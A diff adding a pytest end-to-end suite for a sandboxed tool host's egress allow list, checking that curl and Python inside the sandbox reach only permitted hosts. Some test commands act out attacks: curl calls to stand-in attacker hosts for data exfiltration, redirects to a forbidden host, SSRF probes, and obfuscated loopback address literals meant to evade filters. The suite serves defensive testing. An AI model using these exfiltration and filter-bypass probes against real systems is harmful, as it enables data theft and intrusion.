@@ -1,0 +1,381 @@
+"""Egress by allow list: what a sandboxed command may and may not reach through the host's proxy.
+
+End to end through the real host (``toolwire serve`` with the bash tool and a
+``[network]`` table): two HTTP servers on the test machine's loopback stand in for an
+allowed and a forbidden host, their names pinned to 127.0.0.1 by ``[network.resolve]``
+(a pinned address is trusted even though it is loopback). curl and Python inside the
+sandbox drive the traffic. Each way out that must stay shut has a test, and each test
+checks on the server side that the forbidden host saw no request at all.
+
+The file name puts it in the ordinary-user pass of ``tests/run_unprivileged.sh``.
+"""
+
+from __future__ import annotations
+
+import socket
+import sys
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any
+
+import pytest
+from toolwire.host.config import ConfigError, load_config_file
+from toolwire.host.egresspolicy import NetworkPolicy, address_problem, parse_rule
+
+from tests.e2e_helpers import text_of
+from tests.hostproc import HostProcess
+from tests.sandbox_support import require_boxed, require_sandbox
+
+
+class _Server:
+    """An HTTP server on 127.0.0.1 (an ephemeral port) that records the paths it was asked for.
+
+    ``/redirect`` answers 302 to :attr:`redirect_to`; every other path answers 200 with
+    ``BODY <name> <path>``."""
+
+    def __init__(self, name: str) -> None:
+        self.name = name
+        self.paths: list[str] = []
+        self.redirect_to = ""
+        outer = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                outer.paths.append(self.path)
+                if self.path == "/redirect":
+                    self.send_response(302)
+                    self.send_header("Location", outer.redirect_to)
+                    self.send_header("Content-Length", "0")
+                    self.end_headers()
+                    return
+                body = f"BODY {outer.name} {self.path}\n".encode()
+                self.send_response(200)
+                self.send_header("Content-Length", str(len(body)))
+                self.end_headers()
+                self.wfile.write(body)
+
+            do_POST = do_GET
+
+            def log_message(self, *args: Any) -> None:
+                pass
+
+        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.port = self.httpd.server_address[1]
+        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
+        self.thread.start()
+
+    def close(self) -> None:
+        self.httpd.shutdown()
+        self.httpd.server_close()
+
+
+class _Net:
+    def __init__(self, host: HostProcess, allowed: _Server, forbidden: _Server, root: Path) -> None:
+        self.host = host
+        self.allowed = allowed
+        self.forbidden = forbidden
+        self.root = root
+
+    def run(self, command: str) -> str:
+        """Run ``command`` with the bash tool; its output (whatever its exit code)."""
+        self.host.drain()
+        return text_of(self.host.call("bash", {"command": command}, timeout=120))
+
+    def py(self, code: str) -> str:
+        """Run Python ``code`` in the sandbox (with the host's interpreter)."""
+        script = self.root / "probe.py"
+        script.write_text(code)
+        return self.run(f"{sys.executable} -I {script}; echo rc=$?")
+
+    def refusals(self) -> list[str]:
+        """The egress log notifications received since the last :meth:`run`."""
+        return [
+            m["params"]["data"]
+            for m in self.host.drain()
+            if isinstance(m, dict)
+            and m.get("method") == "notifications/message"
+            and m["params"].get("logger") == "egress"
+        ]
+
+
+@pytest.fixture(scope="module")
+def net(tmp_path_factory: pytest.TempPathFactory) -> Iterator[_Net]:
+    require_sandbox()
+    base = tmp_path_factory.mktemp("egress")
+    root = base / "root"
+    root.mkdir()
+    allowed, forbidden = _Server("allowed"), _Server("forbidden")
+    cfg = base / "toolwire.toml"
+    cfg.write_text(
+        "[network]\n"
+        f'allow = ["allowed.test:{allowed.port}", "localhost:{allowed.port}"]\n'
+        "[network.resolve]\n"
+        '"allowed.test" = "127.0.0.1"\n'
+        '"forbidden.test" = "127.0.0.1"\n'
+        '"extra.test" = "127.0.0.1"\n'
+        '"other.test" = "127.0.0.1"\n'
+        "[network.tools.bash]\n"
+        f'allow = ["extra.test:{forbidden.port}"]\n'
+        "[network.tools.read]\n"
+        f'allow = ["other.test:{forbidden.port}"]\n'
+    )
+    args = ["--root", str(root), "--sandbox", "bwrap", "--no-entry-points", "--config", str(cfg)]
+    try:
+        with HostProcess(args) as h:
+            h.initialize()
+            require_boxed(h)
+            yield _Net(h, allowed, forbidden, root)
+    finally:
+        allowed.close()
+        forbidden.close()
+
+
+def _body(server: _Server, path: str) -> str:
+    return f"BODY {server.name} {path}"
+
+
+# ------------------------------------------------------------------ what gets through
+
+
+def test_allowed_host_is_reached_over_plain_http_and_connect(net: _Net) -> None:
+    a = net.allowed.port
+    got = net.run(
+        f"curl -sS http://allowed.test:{a}/plain; curl -sS -p http://allowed.test:{a}/tunnel"
+    )
+    assert _body(net.allowed, "/plain") in got and _body(net.allowed, "/tunnel") in got, got
+    got = net.py(
+        "import urllib.request\n"
+        f"print(urllib.request.urlopen('http://allowed.test:{a}/py').read().decode())\n"
+    )
+    assert _body(net.allowed, "/py") in got and "rc=0" in got, got
+    assert net.refusals() == []
+
+
+def test_instructions_say_what_is_allowed(net: _Net) -> None:
+    init = net.host.initialize()
+    text = init["result"].get("instructions", "")
+    assert f"allowed.test:{net.allowed.port}" in text, text
+    assert "The tool bash may also reach" in text, text
+
+
+def test_tool_allow_list_adds_only_for_that_tool(net: _Net) -> None:
+    f = net.forbidden.port
+    got = net.run(f"curl -sS http://extra.test:{f}/x; curl -sS http://other.test:{f}/y")
+    assert _body(net.forbidden, "/x") in got, got  # [network.tools.bash]
+    assert "other.test" in got and "not in the network allow list for tool bash" in got, got
+    assert "/y" not in net.forbidden.paths
+
+
+# ------------------------------------------------------------------ what must not
+
+
+def test_forbidden_name_gets_403_with_the_reason_and_a_log_notification(net: _Net) -> None:
+    f = net.forbidden.port
+    got = net.run(
+        f"curl -sS -o /dev/stderr -w 'status=%{{http_code}}' http://forbidden.test:{f}/leak"
+    )
+    assert "status=403" in got and "not in the network allow list" in got, got
+    got = net.run(f"curl -sS -p http://forbidden.test:{f}/leak2; echo rc=$?")
+    assert "403" in got and "rc=56" in got, got  # curl: CONNECT refused
+    logs = net.refusals()
+    assert any("forbidden.test" in line for line in logs), logs
+    assert not any("leak" in p for p in net.forbidden.paths)
+
+
+@pytest.mark.parametrize(
+    "target",
+    ["127.0.0.1", "2130706433", "0x7f.0.0.1", "127.1", "[::1]", "[::ffff:127.0.0.1]"],
+)
+def test_address_literals_are_refused(net: _Net, target: str) -> None:
+    a = net.allowed.port
+    got = net.run(
+        f"curl -sS -g http://{target}:{a}/ip-plain; curl -sS -g -p http://{target}:{a}/ip-tunnel"
+    )
+    assert "BODY" not in got and "response 403" in got, got
+    logs = net.refusals()
+    assert len(logs) == 2, logs
+    assert all("literal" in line or "numeric address" in line for line in logs), logs
+    assert not any(p.startswith("/ip-") for p in net.allowed.paths), net.allowed.paths
+
+
+def test_direct_connections_have_no_route(net: _Net) -> None:
+    # The sandbox's 127.0.0.1 is its own: the host's servers are not there.
+    got = net.run(
+        f"curl -sS --noproxy '*' http://127.0.0.1:{net.allowed.port}/direct; echo rc=$?;"
+        f" curl -sS --noproxy '*' -g http://[::1]:{net.allowed.port}/direct6; echo rc=$?"
+    )
+    assert "BODY" not in got and got.count("rc=7") == 2, got
+    got = net.py(
+        "import socket, errno\n"
+        "for addr in [('192.0.2.1', 80), ('8.8.8.8', 53), ('10.0.0.1', 443)]:\n"
+        "    s = socket.socket()\n"
+        "    try:\n"
+        "        s.connect(addr); print('CONNECTED', addr)\n"
+        "    except OSError as e:\n"
+        "        print('refused', addr, errno.errorcode.get(e.errno))\n"
+    )
+    assert "CONNECTED" not in got and got.count("ENETUNREACH") == 3, got
+
+
+def test_other_ports_of_an_allowed_name_are_refused(net: _Net) -> None:
+    f = net.forbidden.port
+    got = net.run(f"curl -sS http://allowed.test:{f}/port; curl -sS -p http://allowed.test:{f}/p2")
+    assert "BODY" not in got and got.count("not in the network allow list") >= 1, got
+    assert "/port" not in net.forbidden.paths and "/p2" not in net.forbidden.paths
+
+
+def test_the_sandbox_resolves_nothing_itself(net: _Net) -> None:
+    got = net.py(
+        "import socket\n"
+        "for name in ['allowed.test', 'example.com', 'leak.attacker.example']:\n"
+        "    try:\n"
+        "        print('RESOLVED', name, socket.getaddrinfo(name, 80))\n"
+        "    except OSError as e:\n"
+        "        print('no lookup', name, type(e).__name__)\n"
+        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+        "try:\n"
+        "    s.sendto(b'q', ('8.8.8.8', 53)); print('SENT')\n"
+        "except OSError as e:\n"
+        "    print('udp', e.errno)\n"
+    )
+    assert "RESOLVED" not in got and "SENT" not in got and got.count("no lookup") == 3, got
+    # A name off the list is refused before the host looks it up: the reason is the
+    # policy's, never a resolver error (which would mean a DNS query had gone out).
+    net.run(
+        "curl -sS http://secret-data.attacker.example/; curl -sS -p https://x.attacker.example/"
+    )
+    logs = net.refusals()
+    assert len(logs) == 2 and all("not in the network allow list" in line for line in logs), logs
+    assert not any("resolve" in line for line in logs), logs
+
+
+def test_allowed_name_resolving_to_loopback_is_refused_unless_pinned(net: _Net) -> None:
+    a = net.allowed.port
+    got = net.run(f"curl -sS http://localhost:{a}/ssrf; curl -sS -p http://localhost:{a}/ssrf2")
+    assert "resolves to 127.0.0.1, not a public address" in got and "response 403" in got, got
+    logs = net.refusals()
+    assert len(logs) == 2 and all("resolves to 127.0.0.1" in line for line in logs), logs
+    assert not any(p.startswith("/ssrf") for p in net.allowed.paths)
+
+
+def test_redirect_to_a_forbidden_host_is_not_followed(net: _Net) -> None:
+    net.allowed.redirect_to = f"http://forbidden.test:{net.forbidden.port}/stolen"
+    got = net.run(f"curl -sS -L http://allowed.test:{net.allowed.port}/redirect")
+    assert "/redirect" in net.allowed.paths
+    assert "not in the network allow list" in got, got
+    assert "/stolen" not in net.forbidden.paths
+    assert any("forbidden.test" in line for line in net.refusals())
+
+
+def test_host_unix_sockets_other_than_the_proxys_are_unreachable(net: _Net, tmp_path: Path) -> None:
+    path = tmp_path / "host.sock"
+    listeners = [socket.socket(socket.AF_UNIX), socket.socket(socket.AF_UNIX)]
+    listeners[0].bind(str(path))
+    listeners[1].bind("\0toolwire-egress-test-abstract")
+    for s in listeners:
+        s.listen()
+    try:
+        got = net.py(
+            "import socket\n"
+            f"for addr in [{str(path)!r}, '\\0toolwire-egress-test-abstract']:\n"
+            "    s = socket.socket(socket.AF_UNIX)\n"
+            "    try:\n"
+            "        s.connect(addr); print('CONNECTED', repr(addr))\n"
+            "    except OSError as e:\n"
+            "        print('unreachable', type(e).__name__)\n"
+        )
+    finally:
+        for s in listeners:
+            s.close()
+    assert "CONNECTED" not in got and got.count("unreachable") == 2, got
+
+
+def test_raw_packet_and_vsock_sockets_cannot_be_made(net: _Net) -> None:
+    got = net.py(
+        "import socket\n"
+        "kinds = [('raw', socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),\n"
+        "         ('raw6', socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6),\n"
+        "         ('packet', socket.AF_PACKET, socket.SOCK_RAW, 0),\n"
+        "         ('vsock', socket.AF_VSOCK, socket.SOCK_STREAM, 0)]\n"
+        "for name, family, kind, proto in kinds:\n"
+        "    try:\n"
+        "        s = socket.socket(family, kind, proto)\n"
+        "    except OSError as e:\n"
+        "        print('denied', name, e.errno)\n"
+        "        continue\n"
+        "    if name == 'vsock':\n"
+        "        try:\n"
+        "            s.connect((2, 1234)); print('MADE', name)\n"
+        "        except OSError as e:\n"
+        "            print('denied', name, e.errno)\n"
+        "    else:\n"
+        "        print('MADE', name)\n"
+    )
+    assert "MADE" not in got and got.count("denied") == 4, got
+
+
+def test_the_proxy_has_no_surface_of_its_own(net: _Net) -> None:
+    got = net.run(
+        "curl -sS --noproxy '*' http://127.0.0.1:3128/; "
+        "curl -sS --unix-socket /run/toolwire/egress.sock http://proxy/admin; "
+        "curl -sS --noproxy '*' -X OPTIONS 'http://127.0.0.1:3128/*'; "
+        "curl -sS -x http://127.0.0.1:3128 ftp://allowed.test/x"
+    )
+    assert got.count("nothing of its own to serve") == 4, got
+    # The relay's own port is an address literal, refused like any other.
+    net.run("curl -sS -p http://127.0.0.1:3128/")
+    assert any("IP address literal" in line for line in net.refusals())
+
+
+# ------------------------------------------------------------------ configuration
+
+
+def test_rules_match_names_ports_and_wildcards() -> None:
+    policy = NetworkPolicy.from_table(
+        {"allow": ["pypi.org", "*.github.com", "git.example.org:8443"]}
+    ).for_scope()
+    assert policy.check("pypi.org", 443) is None and policy.check("PyPI.org.", 80) is None
+    assert policy.check("pypi.org", 8080) is not None
+    assert policy.check("evil-pypi.org", 443) is not None
+    assert policy.check("api.github.com", 443) is None
+    assert policy.check("github.com", 443) is not None  # *.domain is below it only
+    assert policy.check("api.github.com.evil.net", 443) is not None
+    assert policy.check("git.example.org", 8443) is None
+    assert policy.check("git.example.org", 443) is not None
+    assert address_problem("127.0.0.1") and address_problem("10.1.2.3")
+    assert address_problem("169.254.169.254") and address_problem("::ffff:192.168.0.1")
+    assert address_problem("fd00::1") and address_problem("100.64.0.1")
+    assert address_problem("8.8.8.8") is None
+
+
+@pytest.mark.parametrize(
+    "rule", ["1.2.3.4", "[::1]", "::1", "*", "a.*.com", "host:0", "x:99999", "*.com"]
+)
+def test_bad_rules_are_refused(rule: str) -> None:
+    with pytest.raises(ValueError):
+        parse_rule(rule)
+
+
+def test_config_file_errors_name_the_line(tmp_path: Path) -> None:
+    cfg = tmp_path / "toolwire.toml"
+    cfg.write_text('[network]\nallow = ["ok.example", "10.0.0.1"]\n')
+    with pytest.raises(ConfigError, match=r"toolwire.toml:2: \[network\] allow\[1\].*IP address"):
+        load_config_file(cfg)
+    cfg.write_text("[network]\nblock = []\n")
+    with pytest.raises(ConfigError, match=r"unknown key 'block'"):
+        load_config_file(cfg)
+    cfg.write_text('[network.resolve]\n"a.example" = "not-an-ip"\n')
+    with pytest.raises(ConfigError, match="not an IPv4 or IPv6 address"):
+        load_config_file(cfg)
+    cfg.write_text('[network.tools.bash]\nallow = "pypi.org"\n')
+    with pytest.raises(ConfigError, match=r":2: \[network\] tools.bash.allow: .*list"):
+        load_config_file(cfg)
+    cfg.write_text("[sandbox]\nallow_network = true\n[network]\nallow = []\n")
+    proc = HostProcess(["--config", str(cfg), "--no-entry-points"])
+    try:
+        assert proc.wait(timeout=60) != 0
+    finally:
+        proc.close()
+    assert "allow_network = true gives them the whole network" in proc.stderr
